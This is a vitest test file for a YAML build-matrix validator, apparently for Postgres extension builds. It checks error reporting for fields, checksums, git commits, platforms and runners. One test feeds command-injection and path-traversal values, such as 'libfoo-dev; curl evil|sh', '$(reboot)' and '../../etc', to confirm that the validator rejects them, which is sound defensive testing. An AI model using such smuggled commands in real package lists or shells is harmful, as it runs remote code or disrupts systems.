import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { formatDiagnostic, loadMatrix } from '../../src/matrix/index.ts';
import { entryYaml, PLATFORMS_YAML, scratchMatrix } from '../support/matrix.ts';

async function problems(entries: Record<string, string>, platforms?: string): Promise<string[]> {
  const dir = await scratchMatrix(entries, platforms);
  const { diagnostics } = await loadMatrix(dir);
  // Strip the temp directory so expectations read like what a user sees.
  return diagnostics.map((d) => formatDiagnostic({ ...d, file: path.basename(d.file) }));
}

describe('matrix validation', () => {
  it('accepts the project matrix', async () => {
    const { matrix, diagnostics } = await loadMatrix('matrix');
    expect(diagnostics.map(formatDiagnostic)).toEqual([]);
    expect(matrix!.entries.length).toBeGreaterThanOrEqual(4);
    expect(matrix!.platforms.map((p) => p.name)).toContain('pg17-musllinux-arm64');
  });

  it('accepts a valid scratch entry', async () => {
    expect(await problems({ 'foo.yaml': entryYaml('foo') })).toEqual([]);
  });

  it('reports YAML syntax errors with their position', async () => {
    const [p, ...rest] = await problems({ 'foo.yaml': entryYaml('foo').replace('license: PostgreSQL', 'license: [PostgreSQL') });
    expect(rest).toEqual([]);
    expect(p).toMatch(/^foo\.yaml:\d+:\d+: YAML: /);
  });

  it('names unknown fields at the key, with a suggestion', async () => {
    expect(await problems({ 'foo.yaml': entryYaml('foo', 'homepgae: https://x.org\n') })).toEqual([
      'foo.yaml:13:1: homepgae: unknown field "homepgae" (did you mean "homepage"?)',
    ]);
  });

  it('reports wrong types and missing fields', async () => {
    const text = entryYaml('foo').replace('version: 1.0.0\n', '').replace('abstract: The foo extension', 'abstract: 42');
    expect(await problems({ 'foo.yaml': text })).toEqual([
      'foo.yaml:1:1: version: required field is missing (expected string)',
      'foo.yaml:2:11: abstract: expected string, got number 42 (quote it: YAML reads it as a number)',
    ]);
  });

  it('rejects a checksum that is not 64 hex digits', async () => {
    const text = entryYaml('foo').replace('ab'.repeat(32), 'abc123');
    expect(await problems({ 'foo.yaml': text })).toEqual(['foo.yaml:8:11: source.sha256: must be 64 lowercase hex digits']);
  });

  it('says when YAML read a checksum as a number', async () => {
    const text = entryYaml('foo').replace(`sha256: ${'ab'.repeat(32)}`, `sha256: ${'1'.repeat(60)}e123`);
    expect(await problems({ 'foo.yaml': text })).toEqual([
      'foo.yaml:8:11: source.sha256: expected string, got number 1.111111111111111e+182 (quote it: YAML reads it as a number)',
    ]);
  });

  it('rejects a git ref that is not a full commit', async () => {
    const text = entryYaml('foo').replace(/  url: .*\n  sha256: .*\n/, '  git: https://example.org/foo.git\n  commit: v1.0.0\n');
    expect(await problems({ 'foo.yaml': text })).toEqual(['foo.yaml:8:11: source.commit: must be a full 40-hex-digit commit id']);
  });

  it('explains the forms a source can take', async () => {
    const text = entryYaml('foo').replace(/  url: .*\n  sha256: .*\n/, '  tarball: https://example.org/foo.tgz\n');
    const [p] = await problems({ 'foo.yaml': text });
    expect(p).toMatch(/^foo\.yaml:7:3: source: must be one of: \{url and\/or debian, sha256/);
  });

  it('rejects a file named differently from its entry', async () => {
    expect(await problems({ 'bar.yaml': entryYaml('foo') })).toEqual([
      'bar.yaml:1:7: name: is "foo" but the file is named bar.yaml: name the file foo.yaml',
    ]);
  });

  it('rejects duplicate names and duplicate extensions', async () => {
    const found = await problems({ 'foo.yaml': entryYaml('foo'), 'foo.yml': entryYaml('foo') });
    expect(found).toHaveLength(2);
    expect(found[0]).toMatch(/^foo\.yml:1:7: name: "foo" is already defined in \S*foo\.yaml$/);
    expect(found[1]).toMatch(/^foo\.yml:10:16: contents\.extensions\[0\]: extension "foo" is already provided by \S*foo\.yaml$/);
  });

  it('rejects a version range that selects no major', async () => {
    const text = entryYaml('foo', '  postgres:\n    version: ">= 19"\n');
    expect(await problems({ 'foo.yaml': text })).toEqual([
      'foo.yaml:14:14: dependencies.postgres.version: ">= 19" selects none of the matrix\'s Postgres majors (15, 16, 17)',
    ]);
  });

  it('rejects an exclusion that matches nothing', async () => {
    const text = entryYaml('foo', 'platforms:\n  exclude:\n    - { pg: 14 }\n    - { libc: musl, arch: arm64 }\n');
    expect(await problems({ 'foo.yaml': text })).toEqual(['foo.yaml:15:7: platforms.exclude[0]: matches no platform this entry would build: remove it']);
  });

  it('rejects names and package lists that could smuggle shell syntax or paths', async () => {
    const text = entryYaml('foo', '  packages:\n    build:\n      debian: ["libfoo-dev; curl evil|sh"]\n      alpine: ["$(reboot)"]\n')
      .replace('extensions: [foo]', 'extensions: ["../../etc"]');
    const found = await problems({ 'foo.yaml': text });
    expect(found).toEqual([
      'foo.yaml:10:16: contents.extensions[0]: extension name must be lowercase letters, digits, "_" or "-", starting with a letter',
      'foo.yaml:15:16: dependencies.packages.build.debian[0]: must be a plain Debian package name (optionally with a version)',
      'foo.yaml:16:16: dependencies.packages.build.alpine[0]: must be a plain Alpine package name (optionally with a version)',
    ]);
    const traversal = entryYaml('foo').replace(/  url: .*\n  sha256: .*\n/, '  path: ../outside\n');
    expect(await problems({ 'foo.yaml': traversal })).toEqual([
      'foo.yaml:7:9: source.path: must be "." or a relative path inside the repository, without ".."',
    ]);
  });

  it('takes dispatch files as paths inside the source', async () => {
    expect(await problems({ 'ok.yaml': entryYaml('ok', 'build:\n  dispatch_files: [src/simd_avx2.c]\n') })).toEqual([]);
    expect(await problems({ 'out.yaml': entryYaml('out', 'build:\n  dispatch_files: [../simd.c]\n') })).toEqual([
      'out.yaml:14:20: build.dispatch_files[0]: must be a relative path inside the source, without ".."',
    ]);
  });

  it('reports every problem of every file at once, sorted', async () => {
    const found = await problems({
      'a.yaml': entryYaml('a').replace('license: PostgreSQL', 'licence: PostgreSQL'),
      'b.yaml': entryYaml('b', 'build:\n  script: make\n'),
    });
    expect(found).toEqual([
      'a.yaml:1:1: license: required field is missing (expected string)',
      'a.yaml:4:1: licence: unknown field "licence" (did you mean "license"?)',
      'b.yaml:14:11: build.script: is only used with pipeline "script" (this entry uses "pgxs")',
    ]);
  });

  it('checks platforms.yaml too', async () => {
    const broken = PLATFORMS_YAML.replace('      "17": { builder: example.org/pg:17-alpine, base: example.org/pg:17-alpine }\n', '').replace('runner: ubuntu-24.04-arm', 'runner: 3');
    expect(await problems({}, broken)).toEqual([
      'platforms.yaml:4:20: arches.arm64.runner: must be one of "ubuntu-24.04-arm", "ubuntu-22.04-arm"',
    ]);
    // A runner label GitHub has no runner for (here an amd64 one for arm64) would queue forever.
    const wrongRunner = PLATFORMS_YAML.replace('runner: ubuntu-24.04-arm', 'runner: ubuntu-24.04');
    expect(await problems({}, wrongRunner)).toEqual(['platforms.yaml:4:20: arches.arm64.runner: must be one of "ubuntu-24.04-arm", "ubuntu-22.04-arm"']);
    const missingMajor = PLATFORMS_YAML.replace('      "17": { builder: example.org/pg:17-alpine, base: example.org/pg:17-alpine }\n', '');
    expect(await problems({}, missingMajor)).toEqual(['platforms.yaml:15:7: libcs.musl.images: no builder and base images for Postgres 17']);
  });

  it('takes only the instruction-set baselines of each architecture', async () => {
    const wrong = PLATFORMS_YAML.replace('isa: armv8-a', 'isa: x86-64-v2');
    const [problem] = await problems({}, wrong);
    expect(problem).toMatch(/^platforms\.yaml:4:\d+: arches\.arm64\.isa: .*"armv8-a"/);
    const missing = PLATFORMS_YAML.replace(', isa: x86-64', '');
    expect((await problems({}, missing))[0]).toMatch(/^platforms\.yaml:3:\d+: arches\.amd64\.isa: must be one of "x86-64", "x86-64-v2"/);
  });
});
